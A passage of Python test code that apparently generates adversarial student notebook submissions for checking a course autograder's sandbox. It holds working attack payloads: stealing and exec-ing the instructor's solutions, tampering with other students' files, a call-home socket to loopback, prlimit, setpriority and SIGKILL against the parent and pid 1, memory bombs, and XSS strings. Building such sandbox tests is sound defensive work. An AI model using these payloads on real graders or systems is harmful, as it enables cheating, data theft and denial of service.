    for path in {targets!r}:
        for attempt in (lambda: os.chmod(path, 0o777), lambda: os.chown(path, 4242, 4242),
                        lambda: os.utime(path, (1, 1)), lambda: os.setxattr(path, "user.trust", b"owned"),
                        lambda: os.setxattr(path, "trusted.trust", b"owned")):
            try:
                attempt()
            except OSError:
                pass
        if os.path.isfile(path):
            try:
                with open(path, "ab") as f:
                    f.write(b" ")
            except OSError:
                pass
'''


def network_code(port: int, student: str) -> str:
    return f'''
# {TAG}: call home on the test's loopback server
import socket


def _call_home(where):
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_UNSPEC, "localhost")):
        try:
            with socket.create_connection((host, {port}), timeout=2) as s:
                s.sendall(("{student} " + where).encode())
        except OSError:
            pass
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"{student} udp", ("127.0.0.1", {port}))
        u.close()
    except OSError:
        pass
'''


SIGNALS_CODE = r'''
# _TRUST_ATTACKER_: limits, priorities and signals on the grader
import ctypes, os, resource, signal


class _Rlimit(ctypes.Structure):
    _fields_ = [("rlim_cur", ctypes.c_ulong), ("rlim_max", ctypes.c_ulong)]


def _disturb():
    ppid = os.getppid()
    targets = [p for p in (ppid, 1) if p > 0 and p != os.getpid()]
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in targets:
        try:
            resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
        except (OSError, ValueError):
            pass
        try:
            limit = _Rlimit(1, 1)
            libc.prlimit(pid, resource.RLIMIT_CPU, ctypes.byref(limit), None)
        except Exception:
            pass
        try:
            os.setpriority(os.PRIO_PROCESS, pid, -5)
        except OSError:
            pass
    for pid in targets:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
'''

HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>"


# ---------------------------------------------------------------------------- classes
def victim(env: Env) -> Case:
    """A correct student whose notebook and notes are what the readers are after."""
    nb = correct(N02)
    nb["cells"].insert(0, markdown_cell(f"My private notes: {secrets(env.token)['victim']}"))
    return Case("o_victim", N02, "correct; its notebook and notes.txt hold a canary", "ordinary", 10, 10, nb,
                {"notes.txt": f"private: {secrets(env.token)['victim']}\n".encode()})


def ordinary(env: Env) -> list[Case]:
    s = solutions(N02)
    partly = correct(N02, **{GFM: s[GFM].replace("return np.asarray(sub_model(batch, training=False))[0]",
                                                 "return np.asarray(sub_model(batch, training=False))"),
                             PLOT: _release_code(N02, PLOT)})
    return [
        Case("o_correct", N02, "the instructor's solutions", "ordinary", 10, 10, correct(N02)),
        Case("o_partly", N02, "right model; maps keep the batch axis; plot not done", "ordinary", 3, 3, partly),
        victim(env),
        Case("o_correct04", N04, "the instructor's solutions", "ordinary", 10, 10, correct(N04)),
    ]


def _release_code(name: str, gid: str) -> str:
    return next(_src(c) for c in release(name)["cells"] if _meta(c).get("grade_id") == gid)


def steal_and_use(env: Env) -> Case:
    """plot_feature_map_grid left undone (honest score 7); a top-level cell tries every route to
    the source notebook and, if it gets it, runs the instructor's plot_feature_map_grid."""
    code = steal_code(env) + r'''

import json as _json
_stolen = _steal()
for _path, _text in _stolen.items():
    if "plot_feature_map_grid" in _text and "BEGIN SOLUTION" in _text:
        try:
            for _cell in _json.loads(_text)["cells"]:
                _code = "".join(_cell["source"])
                if _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "plot_feature_map_grid":
                    exec(_code, globals())
                    print("stole plot_feature_map_grid from", _path)
        except Exception:
            pass
'''
    nb = correct(N02, **{PLOT: _release_code(N02, PLOT)})
    nb = insert_after(nb, PLOT, code_cell(f"# {TAG}\n" + code))
    return Case("atk_steal_and_use", N02, "plot undone; steals the instructor's plot_feature_map_grid by any route",
                "attack", None, 7, nb, links=links(env))


def attack_class(env: Env) -> list[Case]:
    """The attackers and the ordinary students of one class run (``--cell-timeout 20
    --memory-mb 1500``). Absolute paths and the port are generated into the submissions."""
    s = solutions(N02)
    full = max_score(N02)
    out = ordinary(env)

    def attack(student, description, nb, **kw):
        kw.setdefault("honest", full)
        out.append(Case(student, N02 if "assignment" not in kw else kw.pop("assignment"), description, "attack",
                        kw.pop("score", None), kw.pop("honest"), nb, **kw))

    # 2 and 3. reading files, /proc, links; searching the process's memory
    out.append(reader(env))
    out.append(steal_and_use(env))
    # 4. forged records, then an endless loop
    gfm = forged_records_code() + "\n\n" + with_payload(s[GFM], "    sub_model =", "_forge()\n" + _loop_payload())
    attack("atk_forged_records", "writes fake 'cell ended' records to every writable file and fd, then loops",
           correct(N02, **{GFM: gfm}), failing=(test_of(GFM),), reason=r"time|within|second|\d\s?s\b")
    # 5. a forged .keras file where blobs go
    mam = keras_bomb_code() + "\n\n" + s[MAM].replace("    layer = model.get_layer", "    _plant()\n    layer = model.get_layer", 1)
    attack("atk_keras_bomb", "plants .keras files declaring Dense(10**9) wherever blobs may go, all the time",
           correct(N02, **{MAM: mam}))
    # 6. memory outside the heap: in memfds small enough for the file size limit, and in big ones
    for student, piece in (("atk_memfd", 60), ("atk_memfd_big", 1024)):
        gfm = memfd_code(env.token, piece) + "\n\n" + with_payload(s[GFM], "    sub_model =", "_hold()")
        attack(student, f"holds 3 GB in memfds of {piece} MB each (--memory-mb 1500)", correct(N02, **{GFM: gfm}),
               failing=(test_of(GFM),), reason=r"memory|\bMB\b")
    # 1, 7 and 8. the outside: files' metadata, the network, then limits, priorities and signals
    victim_dir = env.course / "submitted" / "o_victim" / N02
    targets = [str(victim_dir / f"{N02}.ipynb"), str(victim_dir / "notes.txt"), str(victim_dir),
               str(env.course / "submitted" / "o_correct" / N02 / f"{N02}.ipynb"),
               str(env.course / "submitted" / "atk_outside" / N02 / f"{N02}.ipynb"),
               str(env.course / "submitted"), str(env.source), str(env.source / "INSTRUCTOR_NOTES.txt")]
    targets += [str(source_path(n, env.source)) for n in NOTEBOOKS]
    code = "\n\n".join([metadata_code(targets), network_code(env.port, "atk_outside"), SIGNALS_CODE])
    gfm = code + "\n\n" + with_payload(s[GFM], "    sub_model =", '_tamper()\n_call_home("get_feature_maps")\n_disturb()')
    attack("atk_outside", "chmod, chown, utime, setxattr and appends on other students' and the instructor's "
           "files; connects to a TCP server on the grader's loopback; prlimit(RLIMIT_CPU, 1 s) (resource and "
           "ctypes), setpriority(-5) and SIGKILL on the parent, pid 1 and -1; in get_feature_maps and at top level",
           insert_after(correct(N02, **{GFM: gfm}), GFM, code_cell(f'# {TAG}\n_tamper()\n_call_home("top level")\n_disturb()')))
    # 9. HTML in messages and answers
    nb = correct(N02, **{GFM: f"def get_feature_maps(model, image, layer_name):\n    raise ValueError({HTML!r})\n"})
    nb = insert_after(nb, GFM, markdown_cell(f"My answer: {HTML}"))
    attack("atk_html", "get_feature_maps raises an exception whose message is HTML; a markdown cell of HTML", nb,
           score=6)
    nb = correct(N04, to_uint8=f"def to_uint8(x):\n    raise ValueError({HTML!r})\n",
                 written_raw_vs_normalized=f"{HTML}\n\nMy answer, in HTML.")
    attack("atk_html04", "to_uint8 raises an HTML message; a written answer (graded by hand) of HTML", nb,
           assignment=N04, honest=max_score(N04), score=max_score(N04) - points(N04)["to_uint8_tests"])
    # 10. top-level damage after the first exercise's test
    for student, code, what, reason in [
            ("atk_toplevel_exit", "import os\nos._exit(1)", "os._exit(1)", r"cell"),
            ("atk_toplevel_loop", _loop_payload(), "an endless loop", r"cell"),
            ("atk_toplevel_16gb", "hog = np.ones((2, 2**30))  # 16 GB", "a 16 GB allocation", r"cell\b.*(memory|\bMB\b)")]:
        attack(student, f"a top-level cell after make_activation_model's test: {what}",
               insert_after(correct(N02), test_of(MAM), code_cell(code)),
               passing=(test_of(MAM),), failing=(test_of(GFM), test_of(PLOT)), reason=reason)
    # 11. the package's own reference
    attack("atk_reference", "get_feature_maps calls course.extract_feature_maps",
           correct(N02, **{GFM: "def get_feature_maps(model, image, layer_name):\n"
                                "    return course.extract_feature_maps(model, image[None], layer_name)[layer_name][0]\n"}),
           score=6, failing=(test_of(GFM),), reason=r"it is not allowed here")
    return out


def parent_class(env: Env) -> list[Case]:
    """For a run whose working folder holds ``solutions/`` and the course directory."""
    return [victim(env), reader(env), steal_and_use(env)]


def failure_class() -> list[Case]:
    return [c for c in ordinary(Env(Path("/nonexistent"), Path("/nonexistent"), 1, "0")) if c.student in ("o_correct", "o_partly")]


def write(course: Path, cases: list[Case]) -> None:
    """``course/submitted/<student>/<assignment>/``: the notebook, its files and links."""
    for case in cases:
        folder = Path(course) / "submitted" / case.student / case.assignment
        folder.mkdir(parents=True, exist_ok=True)
        data = case.notebook if isinstance(case.notebook, bytes) else json.dumps(case.notebook, indent=1).encode()
        (folder / f"{case.assignment}.ipynb").write_bytes(data)
        for name, content in case.files.items():
            (folder / name).write_bytes(content)
        for name, target in case.links.items():
            os.symlink(target, folder / name)


if __name__ == "__main__":
    for case in fairness_cases():
        print(f"{case.assignment:<24} {case.student:<20} expected {case.score:>4g}  {case.description}")
